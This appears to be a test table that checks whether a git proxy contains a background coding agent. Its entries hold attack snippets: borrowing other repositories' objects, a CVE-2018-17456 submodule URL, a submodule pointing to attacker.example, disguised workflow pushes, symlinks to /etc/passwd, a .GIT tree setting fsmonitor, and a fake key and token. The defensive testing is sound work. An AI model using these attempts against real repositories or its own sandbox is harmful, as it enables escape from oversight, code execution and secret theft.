//! git: whose objects may be read, and what may be pushed.

super::table::attempts! { "git";
    borrow_objects_of_another_repository {
        tries: "names another repository's objects as alternates, and reads from them", bare: Works,
        stopped_by: "the path is not in the box", says: "EMPTY",
        run: r##"
folders = [F.other + "/.git/objects"] + glob.glob(F.state + "/mirrors/*/objects")
env = {**os.environ, "GIT_ALTERNATE_OBJECT_DIRECTORIES": ":".join(folders)}
found(git("cat-file", "blob", F.other_blob, env=env).stdout)"##,
    }
    fetch_objects_of_another_repository {
        tries: "asks the gateway for an object of another repository by its hash", bare: Stopped,
        stopped_by: "the git proxy serves the repository of the task", says: "EMPTY",
        run: r##"
git("fetch", "origin", F.other_blob)
found(git("cat-file", "blob", F.other_blob).stdout)"##,
    }
    submodule_from_a_path {
        tries: "adds another repository of the machine as a submodule by file://", bare: Works,
        stopped_by: "the path is not in the box", says: "EMPTY",
        run: r##"
git("-c", "protocol.file.allow=always", "-c", "safe.directory=*", "submodule", "add", "file://" + F.other, "/tmp/none")
git("-c", "protocol.file.allow=always", "-c", "safe.directory=*", "clone", "file://" + F.other, "/tmp/sub")
try:
    text = read("/tmp/sub/secret.txt")
except OSError as error:
    text = b""
sh("rm -rf /tmp/sub")
found(text)"##,
    }
    submodule_that_is_an_option {
        tries: "pushes a .gitmodules whose URL is an option (-u./payload), as in CVE-2018-17456", bare: Stopped,
        stopped_by: "the git proxy checks objects strictly, and refuses submodules", says: "disallowed submodule url",
        run: r##"
text = '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'
push(commit({".gitmodules": ("100644", text), "x": ("160000", git("rev-parse", "HEAD").stdout.strip())}) + ":refs/heads/" + branch())"##,
    }
    push_a_submodule {
        tries: "pushes a submodule that points to a host of its own", bare: Stopped,
        stopped_by: "the git proxy refuses new submodules unless a setting allows them", says: "allow_submodules",
        run: r##"
text = '[submodule "y"]\n\tpath = y\n\turl = https://attacker.example/x.git\n'
push(commit({".gitmodules": ("100644", text), "y": ("160000", git("rev-parse", "HEAD").stdout.strip())}) + ":refs/heads/" + branch())"##,
    }
    push_another_branch {
        tries: "pushes to another branch, to a tag, and to references of other kinds", bare: Works,
        stopped_by: "the git proxy takes the task's branch and nothing else", says: "PUSH",
        run: r##"
places = ["origin", F.origin] + glob.glob(F.state + "/mirrors/*")
why = []
for place in places:
    for ref in ("refs/heads", "refs/tags", "refs/notes", "refs/heads/bgagent"):
        done = git("-c", "safe.directory=*", "push", place, f"HEAD:{ref}/escaped-{NAME}")
        if done.returncode == 0:
            escaped(f"{place} took {ref}")
        why.append(done.stderr.strip()[-100:])
stopped(f"PUSH: {why[0]}")"##,
    }
    push_to_the_default_branch {
        tries: "pushes to the default branch", bare: Stopped,
        stopped_by: "the git proxy takes the task's branch and nothing else", says: "only, not refs/heads/main",
        run: r##"push(commit({"one.txt": ("100644", "one")}) + ":refs/heads/main")"##,
    }
    delete_branches {
        tries: "deletes the default branch and its own", bare: Stopped,
        stopped_by: "the git proxy refuses deletions", says: "may not be deleted",
        run: r##"
why = [git("push", "origin", f":refs/heads/{name}") for name in (branch(), "main")]
escaped("deleted") if any(d.returncode == 0 for d in why) else stopped("PUSH: " + " | ".join(answer(d) for d in why))"##,
    }
    push_by_force {
        tries: "rewrites its own branch on the gateway by force", bare: Stopped,
        stopped_by: "the git proxy refuses what is no fast-forward", says: "denying non-fast-forward|non-fast-forward",
        run: r##"
first = git("push", "origin", commit({"one.txt": ("100644", "one")}) + ":refs/heads/" + branch())
if first.returncode:
    stopped("PUSH: the first push was refused: " + first.stderr[-200:])
push("+" + commit({"two.txt": ("100644", "two")}, "HEAD") + ":refs/heads/" + branch())"##,
    }
    push_a_workflow {
        tries: "pushes a change to .github/workflows, which would run with the repository's secrets", bare: Stopped,
        stopped_by: "protected paths are refused, with the setting that allows them", says: "allow_protected",
        run: r##"push(commit({".github/workflows/x.yml": ("100644", "on: push\n")}) + ":refs/heads/" + branch())"##,
    }
    push_a_workflow_in_disguise {
        tries: "pushes .GitHub/Workflows in other spellings, and as a symbolic link", bare: Stopped,
        stopped_by: "paths are compared as file systems without case and with ignorable characters see them", says: "allow_protected",
        run: r##"
trees = [{".GitHub/Workflows/x.yml": ("100644", "on: push\n")}, {".github/workflow\u200cs/x.yml": ("100644", "on: push\n")}, {".github/workflows": ("120000", "../evil")}, {"CODEOWNERS": ("100644", "* @me\n")}]
why = []
for tree in trees:
    made = commit(tree)
    done = git("push", "origin", made + ":refs/heads/" + branch())
    if done.returncode == 0:
        escaped(f"taken: {list(tree)}")
    why.append(answer(done)[:200])
stopped("PUSH: " + " | ".join(why))"##,
    }
    push_a_secret {
        tries: "pushes a file with a private key and an access token in it", bare: Stopped,
        stopped_by: "every commit of a push is searched for secrets", says: "secret",
        run: r##"
key = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\n" + "\n".join("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"[:70] for _ in range(5)) + "\n-----END OPENSSH " + "PRIVATE KEY-----\n"
push(commit({"key.pem": ("100644", key), "env": ("100644", "TOKEN=ghp" + "_" + "R2d2C3poBb8LeiaHan0Luke1Vader5678Yo\n")}) + ":refs/heads/" + branch())"##,
    }
    push_a_symlink_out_of_the_tree {
        tries: "pushes symbolic links that leave the work tree", bare: Stopped,
        stopped_by: "the git proxy refuses links that are absolute or lead above the root", says: "allow_outside_links",
        run: r##"push(commit({"passwd": ("120000", "/etc/passwd"), "up": ("120000", "../../../../etc/passwd")}) + ":refs/heads/" + branch())"##,
    }
    push_a_tree_with_dot_git {
        tries: "pushes a tree with .git in it, which would be a repository's own data for who checks it out", bare: Stopped,
        stopped_by: "the git proxy checks objects strictly", says: "hasDotgit|.git",
        run: r##"
blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=b"[core]\n\tfsmonitor = /tmp/x\n", capture_output=True).stdout.decode().strip()
inner = subprocess.run(["git", "mktree"], input=f"100644 blob {blob}\tconfig\n".encode(), capture_output=True).stdout.decode().strip()
there = git("ls-remote", "origin", "refs/heads/" + branch()).stdout.split()
parent = there[0] if there else "HEAD"
base = git("ls-tree", parent).stdout
outer = subprocess.run(["git", "mktree"], input=(base + f"040000 tree {inner}\t.GIT\n").encode(), capture_output=True).stdout.decode().strip()
made = git("-c", "user.name=a", "-c", "user.email=a@b.example", "commit-tree", outer, "-p", parent, "-m", "x").stdout.strip()
push(made + ":refs/heads/" + branch())"##,
    }
    see_other_tasks_branches {
        tries: "lists and fetches the branches of other tasks", bare: Stopped,
        stopped_by: "a task is shown its base and its own branch", says: "EMPTY",
        run: r##"
seen = git("ls-remote", "origin").stdout
mine = branch()
foreign = [l for l in seen.splitlines() if "refs/heads/bgagent/" in l and not l.split("refs/heads/")[1].startswith(mine)]
escaped(" ".join(foreign)) if foreign else stopped(f"EMPTY: {len(seen.splitlines())} references, none of others")"##,
    }
}
